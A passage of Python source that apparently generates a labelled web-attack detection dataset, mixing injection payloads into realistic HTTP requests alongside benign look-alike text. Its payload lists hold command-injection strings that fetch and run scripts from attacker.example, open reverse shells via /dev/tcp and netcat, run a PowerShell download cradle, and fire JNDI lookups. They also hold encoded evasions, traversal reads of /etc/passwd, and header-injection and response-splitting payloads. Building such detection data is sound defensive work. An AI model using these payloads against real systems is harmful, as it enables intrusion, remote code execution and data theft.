           "..\\..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini",
           "../../../var/log/nginx/access.log", "../../../../root/.bash_history",
           "....//....//....//etc/passwd", "/proc/self/environ"]

TRAV_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _TR_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _TR_SRC[2:8]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _TR_SRC[6:9]),
    ("full-width dots/slashes (NFKC)", fw_dots_slashes, "plain", _TR_SRC[1:4]),
    ("JSON \\u002e\\u002f escapes", identity, "json:./", _TR_SRC[0:3]),
]

# ----- OS command injection ------------------------------------------------
CMDI_GROUPS = [
    ("command separator ;", [
        "; cat /etc/passwd", ";cat /etc/passwd", "; uname -a", "; id", ";/bin/ls -al",
        "; rm -rf /tmp/*", ";echo pwned > /var/www/html/x.txt", "a.txt; id", "; sleep 10",
        "; ping -c 10 127.0.0.1", "; /bin/sh -c 'id'", "; python3 -c 'import os; os.system(\"id\")'",
        "; perl -e 'print `id`'", ";id#", "example.com; ls -la /", "127.0.0.1; id",
        "; curl -s http://attacker.example/s.sh | bash",
        "; wget http://attacker.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", '"; id; echo "', "'; id; echo '",
    ]),
    ("pipe", [
        "| id", "|| id", "127.0.0.1 | whoami", "| sleep 5", "| nc attacker.example 4444 -e /bin/sh",
        "| cat /etc/passwd #", "|/usr/bin/id", "| nslookup $(whoami).attacker.example",
        "| type C:\\Windows\\win.ini", "| cmd /c whoami",
        "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\"",
    ]),
    ("ampersand chaining", [
        "& whoami", "&& whoami", "&& ping -c 1 attacker.example", "127.0.0.1 && cat /etc/passwd",
        "file.txt && id", "& ping -n 5 127.0.0.1 &", "& dir C:\\", "& net user", "& cmd /c whoami",
        "&& curl http://attacker.example/x.sh | sh", "google.com && id",
    ]),
    ("command substitution", [
        "`whoami`", "$(whoami)", "$(curl http://attacker.example/x.sh | sh)", "`curl attacker.example`",
        "$(sleep 5)", "`sleep 5`", "$(id)", "$(echo aWQ= | base64 -d)", "x$(cat /etc/passwd)x",
        "`cat /etc/shadow`", "$(wget -qO- http://attacker.example/a)",
    ]),
    ("newline separator", ["\nid", "\ncat /etc/passwd", "127.0.0.1\nwhoami", "foo\n/bin/sh -c id\n"]),
    ("shell obfuscation", [
        ";cat${IFS}/etc/passwd", ";{cat,/etc/passwd}", ";w'h'o'am'i", ';w"h"o"am"i', ";who\\ami",
        ";c\\at /et\\c/pas\\swd", ";/???/??t /???/p??s??", ";$u cat$u /etc$u/passwd",
        "&& w^h^o^a^m^i", "; ca''t /etc/pa''sswd", ";IFS=,;`cat<<<uname,-a`",
    ]),
    ("Shellshock", [
        "() { :; }; /bin/bash -c \"cat /etc/passwd\"", "() { :;}; echo; /usr/bin/id",
        "() { _; } >_[$($())] { id; }", "() { :; }; /bin/sleep 5",
    ]),
    ("SSI / JNDI remote execution", [
        '<!--#exec cmd="/bin/cat /etc/passwd" -->', '<!--#exec cmd="id" -->',
        "${jndi:ldap://attacker.example/a}", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    ]),
]

CMDI_EVASIONS = [
    ("\uff1b cat /etc/passwd", "full-width semicolon (NFKC-normalising app)"),
    ("\uff5c id", "full-width pipe (NFKC-normalising app)"),
    ("& WhOaMi", "mixed case (cmd.exe is case-insensitive)"),
    ("| CMD /C WHOAMI", "upper case Windows command"),
    ("127.0.0.1\t&& id", "tab before &&"),
    (";\tcat\t/etc/passwd", "tabs as separators"),
    ("$(printf '\\x69\\x64')", "printf hex escapes"),
    ("a;$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)", "base64-decoded command"),
]

CMDI_RAW = [
    ("%0aid", "%0a newline separator"),
    ("%0a%20cat%20/etc/passwd", "%0a newline separator"),
    ("127.0.0.1%0aid", "%0a newline after value"),
    ("127.0.0.1%0d%0awhoami", "%0d%0a separator"),
    ("%3Bid", "encoded semicolon"),
    ("%253Bcat%2520%252Fetc%252Fpasswd", "double-encoded separator"),
    ("127.0.0.1%26%26whoami", "encoded &&"),
    ("%7C%7Cid", "encoded ||"),
    ("%60id%60", "encoded backticks"),
    ("%24(whoami)", "encoded $()"),
    ("x;cat%09/etc/passwd", "%09 tab separator"),
    ("127.0.0.1|id", "bare pipe"),
    ("%3B+cat+%2Fetc%2Fpasswd", "'+' whitespace"),
    ("%0Acurl%20http://attacker.example/x.sh%7Csh", "%0A then pipe to sh"),
]

_CM_SRC = ["; cat /etc/passwd", "| id", "&& whoami", "`whoami`", "$(whoami)",
           "; uname -a", "127.0.0.1; id", "|| id", "$(curl http://attacker.example/x.sh | sh)",
           "& whoami", "; sleep 10", "&& ping -c 1 attacker.example", "; id"]

CMDI_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _CM_SRC[0:4]),
    ("double URL-encoding", enc_double, "raw", _CM_SRC[3:9]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _CM_SRC[9:12]),
    ("%0a instead of ';'", sep_raw(";", "%0a"), "raw", ["; cat /etc/passwd", "; uname -a", "127.0.0.1; id", "; sleep 10"]),
    ("%09 tab as whitespace", ws_raw("%09", keep="'()*,=!-/"), "raw", _CM_SRC[0:3] + ["; sleep 10"]),
    ("${IFS} as whitespace", ifs_for_spaces, "plain", ["; cat /etc/passwd", "; uname -a", "&& ping -c 1 attacker.example"]),
    ("cmd.exe caret splitting", caret_split, "plain", ["& whoami", "| cmd /c whoami"]),
    ("full-width metacharacters (NFKC-normalising app)", fw_punct, "plain", ["`whoami`", "$(whoami)"]),
    ("JSON \\u escaped metacharacters", identity, "json:;|&`$", _CM_SRC[0:5]),
]

# ----- CRLF / header injection ---------------------------------------------
CRLF_GROUPS = [
    ("CRLF header injection", [
        "\r\nSet-Cookie: admin=true", "/home\r\nLocation: https://evil.example",
        "en\r\nSet-Cookie: session=attacker", "x\r\nX-Injected: 1",
        "https://example.com/\r\nRefresh: 0; url=https://evil.example",
        "\r\nAccess-Control-Allow-Origin: *", "\r\nX-XSS-Protection: 0",
        "\r\nContent-Security-Policy: default-src *", "foo\r\n Set-Cookie: x=1",
        "/dashboard\r\nSet-Cookie: sid=fixation123; Path=/",
    ]),
    ("HTTP response splitting", [
        "\r\n\r\n<script>alert(1)</script>",
        "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>pwned</html>",
        "x\r\nContent-Type: text/html\r\n\r\n<h1>defaced</h1>",
    ]),
    ("bare LF / bare CR", ["\nSet-Cookie: a=b", "\rSet-Cookie: a=b", "en\nLocation: https://evil.example"]),
]

CRLF_EVASIONS = [
    ("en-US\\r\\nSet-Cookie: x=1", "literal \\r\\n escape (downstream unescape)"),
    ("ok\\r\\nLocation: https://evil.example", "literal \\r\\n escape (downstream unescape)"),
    ("\\n\\nX-Injected: 1", "literal \\n escape (downstream unescape)"),
    ("example.com%0d%0aSet-Cookie: x=1", "percent-encoded CRLF inside header value"),
    ("https://example.com/%0d%0aLocation:%20https://evil.example", "percent-encoded CRLF inside URL"),
    ("en%0aSet-Cookie: lang=x", "percent-encoded LF inside header value"),
]
CRLF_HEADERISH = {"literal \\r\\n escape (downstream unescape)", "literal \\n escape (downstream unescape)",
                  "percent-encoded CRLF inside header value", "percent-encoded CRLF inside URL",
                  "percent-encoded LF inside header value"}

CRLF_RAW = [
    ("%0d%0aSet-Cookie:%20admin=true", "%0d%0a"),
    ("%0D%0ASet-Cookie:%20admin=true", "%0D%0A upper hex"),
    ("%0aSet-Cookie:crlf=injection", "bare %0a"),
    ("%0dSet-Cookie:crlf=injection", "bare %0d"),
    ("%250d%250aSet-Cookie:%20x=1", "double-encoded CRLF"),
    ("%25250d%25250aSet-Cookie:%20x=1", "triple-encoded CRLF"),
    ("%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "Unicode U+560A/U+560D (Node.js latin1 truncation)"),
    ("%0d%0a%09Set-Cookie:%20x=1", "CRLF + tab (obsolete line folding)"),
    ("%23%0d%0aSet-Cookie:x=1", "'#' then CRLF"),
    ("%3f%0d%0aLocation:%20https://evil.example", "'?' then CRLF"),
    ("%u000d%u000aSet-Cookie:%20x=1", "IIS %u encoding (non-standard)"),
    ("%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "response splitting, encoded"),
    ("en%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK", "response splitting, encoded"),
    ("%0d%0aLocation:%20https://evil.example", "%0d%0a Location"),
    ("/%0d%0aX-Forwarded-Host:%20evil.example", "%0d%0a after slash"),
    ("%0D%0aSet-Cookie:%20a=b", "mixed-case hex"),
    ("%5cr%5cnSet-Cookie:%20a=b", "encoded literal \\r\\n"),
    ("%c4%8d%c4%8aSet-Cookie:%20a=b", "U+010D/U+010A (lower byte CR/LF)"),
]

_CR_SRC = ["\r\nSet-Cookie: admin=true", "/home\r\nLocation: https://evil.example",
           "en\r\nSet-Cookie: session=attacker", "\r\n\r\n<script>alert(1)</script>",
           "x\r\nX-Injected: 1"]

CRLF_TRANSFORMS = [
    ("full URL-encoding (every byte)", enc_all, "raw", _CR_SRC[0:3]),
    ("double URL-encoding", enc_double, "raw", _CR_SRC[1:5]),
    ("lowercase-hex URL-encoding", enc_lowerhex, "raw", _CR_SRC[2:4]),
]

ATTACK_SPEC = {
    "sqli": (SQLI_GROUPS, SQLI_EVASIONS, SQLI_RAW, SQLI_TRANSFORMS),
    "xss": (XSS_GROUPS, XSS_EVASIONS, XSS_RAW, XSS_TRANSFORMS),
    "traversal": (TRAV_GROUPS, TRAV_EVASIONS, TRAV_RAW, TRAV_TRANSFORMS),
    "cmdi": (CMDI_GROUPS, CMDI_EVASIONS, CMDI_RAW, CMDI_TRANSFORMS),
    "crlf": (CRLF_GROUPS, CRLF_EVASIONS, CRLF_RAW, CRLF_TRANSFORMS),
}


def build_cases(rng):
    cases = {c: [] for c in CLASSES}
    for cls, (groups, evasions, raws, transforms) in ATTACK_SPEC.items():
        group_of = {}
        for note, items in groups:
            for p in items:
                group_of[p] = note
                locs = None
                if note == "Shellshock":
                    locs = ("user_agent", "header", "referer", "cookie")
                cases[cls].append(Case(cls, p, note, locs=locs))
        for p, note in evasions:
            locs = None
            if cls == "crlf" and note in CRLF_HEADERISH:
                locs = ("header", "user_agent", "cookie", "json")
            cases[cls].append(Case(cls, p, note, locs=locs))
        for p, note in raws:
            cases[cls].append(Case(cls, p, note, raw=True))
        for note, fn, kind, sources in transforms:
            for src in sources:
                assert src in group_of, (cls, src)
                label = "%s; %s" % (group_of[src], note)
                if kind == "raw":
                    cases[cls].append(Case(cls, fn(src, rng), label, raw=True, base=src))
                elif kind == "plain":
                    cases[cls].append(Case(cls, fn(src, rng), label))
                else:  # "json" or "json:<chars>"
                    chars = kind.split(":", 1)[1] if ":" in kind else {
                        "sqli": "'", "xss": "<>"}.get(cls, "")
                    cases[cls].append(Case(cls, src, label, locs=("json",), jesc=chars))
    for p, note in TRAV_PATH_ONLY_RAW:
        cases["traversal"].append(Case("traversal", p, note, raw=True, locs=("path_abs",)))
    return cases


# ---------------------------------------------------------------------------
# 3. Attack placement
# ---------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
]
TOOL_UAS = [
    "curl/8.5.0", "curl/7.81.0", "python-requests/2.31.0", "Go-http-client/1.1", "Go-http-client/2.0",
    "okhttp/4.12.0", "PostmanRuntime/7.37.3", "Wget/1.21.4", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "axios/1.6.8", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Dart/3.3 (dart:io)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
    "MyCompanyApp/3.12.1 (iPhone; iOS 17.4.1; Scale/3.00)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Twitterbot/1.0", "kube-probe/1.29", "ELB-HealthChecker/2.0", "Prometheus/2.51.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.60 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 OPR/109.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 16_7_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
]

CTX = {
    "sqli": dict(
        params=["id", "user_id", "q", "search", "sort", "order", "category", "username", "email", "product", "filter"],
        qpaths=["/api/search", "/api/products", "/api/users", "/catalog/items", "/api/v1/orders", "/reports/sales"],
        ppaths=["/api/users/{}", "/api/products/{}/reviews", "/shop/category/{}", "/api/v1/orders/{}"],
        headers=["X-Forwarded-For", "X-Client-Id", "X-Tenant-Id", "X-Api-Version", "X-Device-Id"],
        cookies=["user_id", "cart_id", "tracking_id", "lang"],
        json=[("POST", "/api/search", lambda v: {"filter": {"name": v, "limit": 20}, "page": 1}),
              ("POST", "/api/login", lambda v: {"user": {"email": v, "password": "hunter2"}}),
              ("PUT", "/api/v1/reports/7", lambda v: {"query": {"sort": v, "columns": ["id", "total"]}}),
              ("PATCH", "/api/users/42", lambda v: {"profile": {"nickname": v}})],
        form=[("POST", "/login", "username", lambda f: f + "&password=hunter2&remember=on"),
              ("POST", "/search", "q", lambda f: "type=products&" + f),
              ("POST", "/account/lookup", "email", lambda f: f + "&submit=Find")],
        mp=[("POST", "/api/import", "customer_id"), ("POST", "/upload", "album")],
        weights={"query": 30, "json": 16, "form": 15, "path": 8, "cookie": 8, "header": 7,
                 "user_agent": 4, "referer": 4, "multipart": 6, "query_name": 3}),
    "xss": dict(
        params=["q", "search", "name", "message", "comment", "title", "callback", "returnUrl", "error", "msg"],
        qpaths=["/search", "/api/search", "/comments", "/error", "/profile", "/api/v2/messages", "/oauth/callback"],
        ppaths=["/search/{}", "/u/{}/profile", "/wiki/{}", "/tags/{}"],
        headers=["X-Display-Name", "X-Forwarded-Host", "X-Request-Source", "X-Client-Name", "X-Custom-Message"],
        cookies=["display_name", "last_search", "theme", "flash"],
        json=[("POST", "/api/comments", lambda v: {"comment": {"body": v, "author": "jdoe"}, "post_id": 118}),
              ("PUT", "/api/profile", lambda v: {"profile": {"display_name": v, "bio": "hi"}}),
              ("POST", "/api/v1/boards/3/cards", lambda v: {"items": [{"title": "todo"}, {"title": v}]}),
              ("PATCH", "/api/pages/home", lambda v: {"blocks": [{"type": "html", "content": {"html": v}}]})],
        form=[("POST", "/comments", "comment", lambda f: "post=118&name=Jane&" + f),
              ("POST", "/guestbook", "message", lambda f: "name=visitor&" + f),
              ("POST", "/profile/edit", "bio", lambda f: f + "&save=1")],
        mp=[("POST", "/api/upload", "description"), ("POST", "/support/ticket", "subject")],
        weights={"query": 25, "json": 20, "form": 12, "multipart": 8, "path": 5, "referer": 8,
                 "user_agent": 6, "header": 6, "cookie": 6, "query_name": 3}),
    "traversal": dict(
        params=["file", "path", "filename", "template", "page", "doc", "include", "download", "folder", "img", "view"],
        qpaths=["/download", "/api/files", "/view", "/render", "/static/get", "/api/v1/export", "/index.php"],
        ppaths=["/static/{}", "/download/{}", "/api/files/{}", "/assets/{}", "/images/{}"],
        headers=["X-Original-URL", "X-Rewrite-URL", "X-File-Path", "X-Template", "X-Locale"],
        cookies=["lang", "template", "theme_path", "skin"],
        json=[("POST", "/api/render", lambda v: {"template": v, "vars": {"name": "x"}}),
              ("POST", "/api/v1/attachments", lambda v: {"attachment": {"path": v, "inline": False}}),
              ("PUT", "/api/exports/9", lambda v: {"export": {"file": v, "format": "csv"}}),
              ("PATCH", "/api/settings", lambda v: {"appearance": {"theme": {"stylesheet": v}}})],
        form=[("POST", "/admin/backup/restore", "archive", lambda f: f + "&confirm=yes"),
              ("POST", "/render", "template", lambda f: "title=Hi&" + f),
              ("POST", "/files/read", "path", lambda f: f)],
        mp=[("POST", "/api/upload", "file"), ("POST", "/avatar", "avatar")],
        weights={"path": 30, "query": 25, "json": 10, "form": 6, "multipart": 8, "cookie": 6,
                 "header": 6, "referer": 2, "query_name": 2, "user_agent": 1}),
    "cmdi": dict(
        params=["host", "ip", "domain", "target", "cmd", "exec", "filename", "address", "server", "count"],
        qpaths=["/api/tools/ping", "/api/diagnostics/traceroute", "/admin/dns", "/api/convert", "/api/v1/whois", "/cgi-bin/status"],
        ppaths=["/api/tools/ping/{}", "/api/dns/lookup/{}", "/cgi-bin/{}"],
        headers=["X-Forwarded-For", "X-Device-Id", "X-Hostname", "X-Client-Host", "X-Callback-Host"],
        cookies=["host", "tz", "device", "printer"],
        json=[("POST", "/api/tools/ping", lambda v: {"host": v, "count": 3}),
              ("POST", "/api/v1/diagnostics", lambda v: {"target": {"address": v, "timeout": 5}}),
              ("PUT", "/api/convert/jobs/5", lambda v: {"job": {"input": {"filename": v}, "format": "pdf"}}),
              ("PATCH", "/api/devices/77", lambda v: {"network": {"ntp_server": v}})],
        form=[("POST", "/admin/ping", "ip", lambda f: f + "&submit=Ping"),
              ("POST", "/tools/nslookup", "domain", lambda f: "type=A&" + f),
              ("POST", "/convert", "filename", lambda f: f + "&format=png")],
        mp=[("POST", "/api/convert", "output_name"), ("POST", "/firmware/upload", "version")],
        weights={"query": 25, "json": 15, "form": 12, "multipart": 6, "header": 8, "user_agent": 8,
                 "cookie": 6, "referer": 3, "path": 5, "query_name": 2}),
    "crlf": dict(
        params=["redirect", "next", "url", "return_to", "lang", "callback", "continue", "dest", "r", "location"],
        qpaths=["/redirect", "/login", "/logout", "/api/v1/lang", "/out", "/sso/return"],
        ppaths=["/redirect/{}", "/lang/{}", "/r/{}"],
        headers=["X-Forwarded-Host", "X-Redirect-To", "X-Locale", "X-Request-Id", "X-Original-URL"],
        cookies=["lang", "redirect", "return_to"],
        json=[("POST", "/api/v1/redirects", lambda v: {"redirect_url": v, "code": 302}),
              ("POST", "/api/webhooks", lambda v: {"delivery": {"headers": {"X-Note": v}}}),
              ("PATCH", "/api/users/me", lambda v: {"preferences": {"lang": v}})],
        form=[("POST", "/login", "next", lambda f: "user=alice&pass=x&" + f),
              ("POST", "/settings/lang", "lang", lambda f: f)],
        mp=[("POST", "/api/upload", "redirect")],
        weights={"query": 40, "path": 10, "header": 12, "json": 8, "form": 8, "cookie": 8,
                 "referer": 6, "multipart": 8, "user_agent": 2, "query_name": 1}),
}


def rand_token(rng, n=32, alphabet="0123456789abcdef"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def rand_uuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def base_headers(rng, ua=None, extra=()):
    h = [["User-Agent", ua or rng.choice(BROWSER_UAS + TOOL_UAS[:6])],
         ["Accept", rng.choice(["application/json", "*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"])]]
    if rng.random() < 0.3:
        h.append(["Accept-Language", rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "ja,en-US;q=0.7"])])
    h.extend([list(x) for x in extra])
    return h


def json_body(obj, rng, jesc=""):
    s = json.dumps(obj, ensure_ascii=rng.random() < 0.35,
                   separators=(",", ":") if rng.random() < 0.5 else (", ", ": "))
    for c in jesc:
        s = s.replace(c, "\\u%04x" % ord(c))
    return s


def json_walk_strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield k
            yield from json_walk_strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from json_walk_strings(v)


def multipart_body(rng, fields):
    """fields: list of (name, value, filename or None, content_type or None)."""
    if rng.random() < 0.5:
        boundary = "----WebKitFormBoundary" + rand_token(rng, 16, string.ascii_letters + string.digits)
    else:
        boundary = "------------------------" + rand_token(rng, 16)
    parts = []
    for name, value, filename, ctype in fields:
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        head = disp + "\r\n" + ("Content-Type: %s\r\n" % ctype if ctype else "")
        parts.append("--%s\r\n%s\r\n%s\r\n" % (boundary, head, value))
    return "multipart/form-data; boundary=" + boundary, "".join(parts) + "--%s--\r\n" % boundary


def req(method, path, query="", headers=None, content_type=None, body=None):
    return dict(method=method, path=path, query=query, headers=headers or [],
                content_type=content_type, body=body)


def qval(case, rng):
    """Wire form of a payload as a query/form value."""
    if case.raw:
        return case.text
    return pct_plus(case.text) if rng.random() < 0.3 else pct(case.text)


def compatible(case, loc):
    t = case.text
    if case.locs is not None:
        if loc not in case.locs:
            return False
    if case.raw:
        if loc in ("json", "multipart"):
            return False
        if not all(0x21 <= ord(c) < 0x7F for c in t):
            return False
        if loc in ("query", "form"):
            return set(t) <= QUERY_CHARS and "&" not in t
        if loc == "query_name":
            return set(t) <= QUERY_CHARS and not set(t) & set("&=")
        if loc == "path":
            return set(t) <= PATH_CHARS
        if loc == "path_abs":
            return set(t) <= PATH_CHARS and t.startswith("/")
        if loc == "cookie":
            return not set(t) & COOKIE_BAD
        return True  # header, user_agent, referer
    if loc in ("header", "user_agent"):
        return header_safe(t)
    if loc == "path_abs":
        return False
    return True


def place_attack(case, loc, rng):
    c = CTX[case.cls]
    h = None
    if loc == "query":
        param = rng.choice(c["params"])
        v = qval(case, rng)
        pre = rng.choice(["", "", "page=1&", "lang=en&", "v=2&"])
        post = rng.choice(["", "", "&limit=20", "&format=json"])
        return req("GET", rng.choice(c["qpaths"]), pre + param + "=" + v + post, base_headers(rng))
    if loc == "query_name":
        name = case.text if case.raw else pct(case.text)
        return req("GET", rng.choice(c["qpaths"]), rng.choice(["", "page=2&"]) + name + "=1", base_headers(rng))
    if loc == "path":
        tmpl = rng.choice(c["ppaths"])
        if case.raw:
            seg = case.text
        elif case.cls == "traversal" and not re.match(r"^(/|[A-Za-z]+:)", case.text):
            seg = pct(case.text, safe="/")
        else:
            seg = pct(case.text, safe="'()*,;=!:@$")
        method = "DELETE" if (case.cls == "sqli" and rng.random() < 0.2) else "GET"
        return req(method, tmpl.format(seg), "", base_headers(rng))
    if loc == "path_abs":
        return req("GET", case.text, "", base_headers(rng))
    if loc == "json":
        method, path, build = rng.choice(c["json"])
        ct = rng.choice(["application/json", "application/json", "application/json; charset=utf-8"])
        return req(method, path, "", base_headers(rng), ct, json_body(build(case.text), rng, case.jesc))
    if loc == "form":
        method, path, field, wrap = rng.choice(c["form"])
        return req(method, path, "", base_headers(rng), "application/x-www-form-urlencoded",
                   wrap(field + "=" + (case.text if case.raw else pct_plus(case.text))))
    if loc == "multipart":
        method, path, field = rng.choice(c["mp"])
        if case.cls == "traversal" and rng.random() < 0.7:
            fields = [("title", "holiday photos", None, None),
                      (field, "hello world\n", case.text, "application/octet-stream")]
        else:
            fields = [(field, case.text, None, None),
                      ("file", "id,name\n1,Alice\n", "data.csv", "text/csv")]
        ct, body = multipart_body(rng, fields)
        return req(method, path, "", base_headers(rng), ct, body)
    if loc == "header":
        name = rng.choice(c["headers"])
        return req("GET", rng.choice(c["qpaths"]), "", base_headers(rng, extra=[(name, case.text)]))
    if loc == "user_agent":
        ua = case.text if (case.raw or rng.random() < 0.5) else "Mozilla/5.0 " + case.text
        return req(rng.choice(["GET", "GET", "POST"]), rng.choice(["/", "/api/status", "/index.html", "/cgi-bin/test.cgi"]),
                   "", base_headers(rng, ua=ua))
    if loc == "referer":
        if case.raw:
            ref = "https://www.example.com/search?q=" + case.text
        elif header_safe(case.text) and rng.random() < 0.4:
            ref = case.text if case.text.startswith("http") else "https://www.example.com/" + case.text
        else:
            ref = "https://www.example.com/search?q=" + pct(case.text)
        return req("GET", rng.choice(c["qpaths"]), "", base_headers(rng, extra=[("Referer", ref)]))
    if loc == "cookie":
        name = rng.choice(c["cookies"])
        v = case.text if case.raw else cookie_value(case.text)
        ck = "session=%s; %s=%s" % (rand_token(rng), name, v)
        if rng.random() < 0.3:
            ck += "; theme=dark"
        return req("GET", rng.choice(c["qpaths"]), "", base_headers(rng, extra=[("Cookie", ck)]))
    raise ValueError(loc)


def loc_label(loc):
    return "path" if loc == "path_abs" else loc


def build_attacks(rng):
    cases = build_cases(rng)
    out = []
    for cls in CLASSES:
        weights = CTX[cls]["weights"]
        used = collections.defaultdict(set)  # case index -> locations used
        rows = []

        def pick(i, case):
            cand = [l for l in weights if l not in used[i] and compatible(case, l)]
            if case.locs == ("path_abs",):
                cand = [] if "path_abs" in used[i] else ["path_abs"]
            if not cand:
                return None
            return rng.choices(cand, weights=[weights.get(l, 1) for l in cand])[0]

        order = list(range(len(cases[cls])))
        rounds = 0
        while len(rows) < TARGETS[cls] and rounds < 6:
            if rounds:
                rng.shuffle(order)
            for i in order:
                if len(rows) >= TARGETS[cls] and rounds:
                    break
                case = cases[cls][i]
                loc = pick(i, case)
                if loc is None:
                    continue
                used[i].add(loc)
                r = place_attack(case, loc, rng)
                r.update(cls=cls, location=loc_label(loc), note=case.note, _base=case.base, _raw=case.raw)
                rows.append(r)
            rounds += 1
        out.extend(rows)
    return out


# ---------------------------------------------------------------------------
# 4. Benign values and placement
# ---------------------------------------------------------------------------
# Values are (text) or (text, note).  Notes starting with "grey:" mark grey-zone
# cases (see README "Label policy"); they are still labelled benign.

B_NAMES = [
    "O'Brien", "Siobhan O'Brien", "D'Angelo Russell", "Conan O'Neil", "Anna D'Souza",
    "Mary-Kate O'Connor", "N'Golo Kanté", "Le'Veon Bell", "Jean-Luc Picard", "María José García-López",
    "Zoë Saldaña", "Nguyễn Văn An", "山田 太郎", "محمد أحمد", "Иван Петров", "Björk Guðmundsdóttir",
    'Dwayne "The Rock" Johnson', "Ngũgĩ wa Thiong'o", "O'Reilly Media", "Miles O'Keeffe", "D'Arcy McGee",
    "Sinéad O'Connor", "José Ñúñez", "Søren Kierkegaard", "Łukasz Żółć", "Kim Min-jun (김민준)",
    "Dr. Amélie D'Artagnan-Smith, PhD", "St. John's Wort Ltd.", "Ben & Jerry's", "Toys\"R\"Us",
]

B_PROSE_SQL = [
    "Please select your preferred delivery date.", "Don't drop the ball on this one!",
    "I'd like to delete my account and all my data, please.", "Union Station is two blocks north of the hotel.",
    "Update: the meeting moved to 3pm; bring your laptop.", "Insert tab A into slot B, then tighten the screws.",
    "Where are my orders from last week?", "Join us for drinks after work on Friday.", "Select all that apply:",
    "The union voted to accept the new contract.", "Drop-off is at the front desk between 9 and 5.",
    "Table for two, please, near the window.", "Order by Friday to get free shipping.",
    "Is it 1 or 2 tickets for Saturday?", "You can choose plan A or 1 of the add-ons.",
    "It's 5 o'clock somewhere.", "We're open late; come by anytime after 6.", "Let's grab coffee -- my treat.",
    ("How do I join two tables?", "SQL question in prose"),
    ("What's the difference between UNION and UNION ALL?", "grey: SQL keywords in a question"),
    ("Can someone explain what SQL injection is and how to prevent it?", "prose about SQL injection"),
    "Having two kids and a dog, we need a bigger car.", "The delete key on my keyboard is stuck.",
    "Grant and Sarah will sign the lease tomorrow.", "Please don't truncate the description field.",
    "I sleep 5 hours a night and I'm exhausted.", "Running a benchmark of the new laptop tonight.",
    "Wait for the delay announcement before boarding.", "The cast includes O'Toole and D'Onofrio.",
    "Where do I find the 'Select' button? It's greyed out.",
    "Updated the 'drop' date to 2024-06-01 -- please confirm.",
    "Null and void: the old contract no longer applies.", "Version 2.0 adds a 'Delete all' option.",
    "Ticket #4521: user can't select 'Other' from the dropdown", "Tables, chairs and a sofa are included.",
    "'Sure,' she said, 'why not?'", "He's 6'2\" and plays center.", "Rock 'n' roll will never die.",
    "I'll be there at 7 -- or 8 at the latest.", "Is the limit 1 per customer?", "Case closed; moving on.",
    "Select Comfort mattress, queen size, like new", "where is the nearest union bank branch",
